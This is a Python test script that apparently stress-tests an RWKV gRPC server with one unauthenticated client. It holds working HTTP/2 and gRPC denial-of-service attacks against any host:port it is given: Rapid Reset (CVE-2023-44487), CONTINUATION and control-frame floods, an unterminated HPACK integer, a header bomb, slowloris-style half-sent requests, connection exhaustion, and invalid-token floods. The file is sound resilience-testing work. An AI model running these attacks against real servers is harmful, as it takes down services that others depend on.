# SPDX-License-Identifier: Apache-2.0
"""Abuses of HTTP/2 and gRPC by one client without credentials, for tests on the
same host.

    python3 attacks.py NAME SERVER SECONDS [SOURCE]

runs one of ATTACKS, or wrong_tokens, against SERVER (host:port or unix:path)
from the address SOURCE, and prints what it has done as one JSON object.
"""

import collections
import concurrent.futures
import contextlib
import json
import secrets
import struct
import sys
import time

import hpack
import raw_http2 as raw
from rwkv.v1 import rwkv_pb2 as pb

# While it is refused, an attacker tries again this often.
PAUSE_SECONDS = 0.01
BATCH = 100
MESSAGE_BYTES = 15 << 20
NUM_CONNECTIONS = 300


class Attacker:
    """Opens connections to a server until a time has passed, and counts what
    happens."""

    def __init__(self, server, seconds, source=None):
        self._server, self._source = server, source
        self.until = time.monotonic() + seconds
        self.counts = collections.Counter()

    def over(self):
        return time.monotonic() >= self.until

    def connect(self, **options):
        connection = raw.Connection(self._server, self._source, **options)
        self.counts["connections"] += 1
        return connection

    def repeat(self, abuse, **options):
        """Calls `abuse` with a new connection each time the server has closed
        the last one."""
        while not self.over():
            try:
                with contextlib.closing(self.connect(**options)) as connection:
                    abuse(connection)
            except TimeoutError:
                self.counts["unread by the server"] += 1
            except OSError:
                self.counts["closed by the server"] += 1
                time.sleep(PAUSE_SECONDS)

    def repeat_at_once(self, number, abuse):
        """Does the same on a number of connections at the same time."""
        with concurrent.futures.ThreadPoolExecutor(number) as pool:
            for done in [pool.submit(self.repeat, abuse)
                         for _ in range(number)]:
                done.result()

    def flood(self, connection, make_frames):
        """Sends what `make_frames(number)` returns, again and again."""
        number = 0
        while not self.over():
            connection.send(make_frames(number), self.until)
            self.counts["batches"] += 1
            number += 1

    def hold(self, connections):
        """Keeps connections open, and their pings answered, until the end."""
        while not self.over() and connections:
            for connection in list(connections):
                try:
                    connection.wait(0.01)
                except OSError:
                    connections.remove(connection)
                    self.counts["closed by the server"] += 1
        self.counts["held at the end"] = len(connections)
        for connection in connections:
            connection.close()


def rapid_reset(attacker):
    """Streams that are opened and reset at once (CVE-2023-44487)."""
    fields = raw.call_fields("Generate")
    cancel = struct.pack(">I", raw.CANCEL)

    def frames(number):
        attacker.counts["streams"] += BATCH
        first = 1 + 2 * BATCH * number
        return b"".join(
            raw.frame(raw.HEADERS, raw.END_HEADERS, stream, fields) +
            raw.frame(raw.RST_STREAM, 0, stream, cancel)
            for stream in range(first, first + 2 * BATCH, 2))
    attacker.repeat(lambda connection: attacker.flood(connection, frames))


def continuation_flood(attacker):
    """Headers without an end, before the server's settings are acknowledged,
    when its limit on their size does not apply yet."""
    part = raw.frame(raw.CONTINUATION, 0, 1,
                     2 * raw.header_block(("x-filler", b"a" * 8000)))

    def abuse(connection):
        connection.send(raw.frame(raw.HEADERS, 0, 1,
                                  raw.call_fields("Generate")))
        attacker.flood(connection, lambda number: part)
    attacker.repeat(abuse, acknowledges=False)


def endless_integers(attacker):
    """A string in a header whose length is an integer without an end
    (CVE-2023-33953)."""
    part = raw.frame(raw.CONTINUATION, 0, 1, b"\x80" * raw.FRAME_SIZE)

    def abuse(connection):
        connection.send(raw.frame(
            raw.HEADERS, 0, 1, raw.call_fields("Generate") + b"\x00\x7f\x80"))
        attacker.flood(connection, lambda number: part)
    attacker.repeat(abuse, acknowledges=False)


def header_bomb(attacker):
    """Headers of one byte each that stand for four kilobytes."""
    large = hpack.Encoder().encode([("x", b"a" * 4000)], huffman=False)
    many = b"\xbe" * (raw.FRAME_SIZE - 1)  # the newest entry of the table

    def abuse(connection):
        connection.send(raw.frame(raw.HEADERS, raw.END_HEADERS, 1,
                                  raw.call_fields("Generate") + large))

        def frames(number):
            stream = 3 + 2 * number
            return (raw.frame(raw.HEADERS, 0, stream,
                              raw.call_fields("Generate")) +
                    raw.frame(raw.CONTINUATION, 0, stream, many) * 8 +
                    raw.frame(raw.CONTINUATION, raw.END_HEADERS, stream, many))
        attacker.flood(connection, frames)
    attacker.repeat(abuse)


def half_sent_messages(attacker):
    """Messages of 15 MiB that lack their last byte."""
    body = raw.grpc_message(bytes(MESSAGE_BYTES))[:-1]

    def abuse(connection):
        for stream in range(1, 33, 2):
            connection.open_stream(stream, raw.call_fields("Tokenize"))
            attacker.counts["bytes"] += connection.send_data(
                stream, body, min(attacker.until, time.monotonic() + 1))
        connection.wait(attacker.until - time.monotonic())
    attacker.repeat_at_once(4, abuse)


def unread_messages(attacker):
    """Complete messages on streams of which the server reads only the first
    one, as many as it grants."""
    messages = 4 * raw.grpc_message(bytes(1 << 20))

    def abuse(connection):
        for stream in range(1, 129, 2):
            connection.open_stream(
                stream, raw.call_fields("/grpc.health.v1.Health/Watch"))
            attacker.counts["bytes"] += connection.send_data(
                stream, raw.grpc_message(b"") + messages,
                min(attacker.until, time.monotonic() + 0.05))
        connection.wait(attacker.until - time.monotonic())
    attacker.repeat_at_once(4, abuse)


def streams_without_messages(attacker):
    """Calls whose message never comes, as many as the server accepts."""
    fields = raw.call_fields("Generate")

    def frames(number):
        attacker.counts["streams"] += BATCH
        first = 1 + 2 * BATCH * number
        return b"".join(raw.frame(raw.HEADERS, raw.END_HEADERS, stream, fields)
                        for stream in range(first, first + 2 * BATCH, 2))

    def abuse(connection):
        for number in range(100):
            connection.send(frames(number), attacker.until)
        connection.wait(attacker.until - time.monotonic())
    attacker.repeat(abuse)


def unread_answers(attacker):
    """Calls with large answers that the client never reads: a prompt with 32
    alternatives for each of its tokens."""
    request = pb.GenerateRequest(max_tokens=0, echo=True, echo_top_logprobs=32)
    request.prompt.tokens.ids.extend(1 + 7919 * i % 2000 for i in range(20000))
    body = raw.grpc_message(request.SerializeToString())
    connections = []
    with contextlib.suppress(OSError):
        for _ in range(8):
            connection = attacker.connect()
            connections.append(connection)
            for stream in (1, 3):
                connection.open_stream(stream, raw.call_fields("Generate"))
                connection.send_data(stream, body, attacker.until, end=True)
                attacker.counts["calls"] += 1
    attacker.hold(connections)


def idle_connections(attacker, start=b""):
    """As many connections as the server accepts, which do nothing."""
    connections = []
    while len(connections) < NUM_CONNECTIONS and not attacker.over():
        try:
            # An acknowledgment must not interrupt the start of headers.
            connection = attacker.connect(acknowledges=not start)
            connections.append(connection)
            connection.send(start)
        except OSError:
            attacker.counts["refused"] += 1
            time.sleep(PAUSE_SECONDS)
    attacker.hold(connections)


def half_sent_headers(attacker):
    """As many connections as the server accepts, each of which has sent headers
    without an end."""
    idle_connections(attacker, raw.frame(raw.HEADERS, 0, 1,
                                         raw.call_fields("Generate")))


def control_frames(attacker):
    """Pings, settings, priorities, window updates and empty data, which the
    server must handle or answer (CVE-2019-9512, 9513, 9515, 9518)."""
    batch = b"".join((
        raw.frame(raw.PING, payload=bytes(8)), raw.settings([(4, 65535)]),
        raw.frame(raw.PRIORITY, 0, 1, struct.pack(">IB", 0, 1)),
        raw.frame(raw.WINDOW_UPDATE, 0, 1, struct.pack(">I", 1)),
        raw.frame(raw.DATA, 0, 1))) * BATCH

    def abuse(connection):
        connection.open_stream(1, raw.call_fields("Generate"))
        attacker.flood(connection, lambda number: batch)
    attacker.repeat(abuse)


def calls(attacker):
    """Small valid calls, as many as the server answers."""
    fields = raw.call_fields("GetModel")
    body = raw.grpc_message(b"")

    def frames(number):
        attacker.counts["calls"] += BATCH
        first = 1 + 2 * BATCH * number
        return b"".join(
            raw.frame(raw.HEADERS, raw.END_HEADERS, stream, fields) +
            raw.frame(raw.DATA, raw.END_STREAM, stream, body)
            for stream in range(first, first + 2 * BATCH, 2))
    attacker.repeat(lambda connection: attacker.flood(connection, frames),
                    reads=True)


def wrong_tokens(attacker):
    """Small calls, each batch with a token that nobody has, as many as the
    server answers. For a server with --auth_tokens."""
    body = raw.grpc_message(b"")

    def frames(number):
        attacker.counts["calls"] += BATCH
        fields = raw.call_fields(
            "GetModel", ("authorization", f"Bearer rwkvd_{secrets.token_hex()}"))
        first = 1 + 2 * BATCH * number
        return b"".join(
            raw.frame(raw.HEADERS, raw.END_HEADERS, stream, fields) +
            raw.frame(raw.DATA, raw.END_STREAM, stream, body)
            for stream in range(first, first + 2 * BATCH, 2))
    attacker.repeat(lambda connection: attacker.flood(connection, frames),
                    reads=True)


# On any server.
ATTACKS = {attack.__name__: attack for attack in (
    rapid_reset, continuation_flood, endless_integers, header_bomb,
    half_sent_messages, unread_messages, streams_without_messages, unread_answers,
    idle_connections, half_sent_headers, control_frames, calls)}


def main(arguments):
    name, server, seconds, *source = arguments
    attacker = Attacker(server, float(seconds), *source)
    {**ATTACKS, "wrong_tokens": wrong_tokens}[name](attacker)
    print(json.dumps(attacker.counts))


if __name__ == "__main__":
    main(sys.argv[1:])
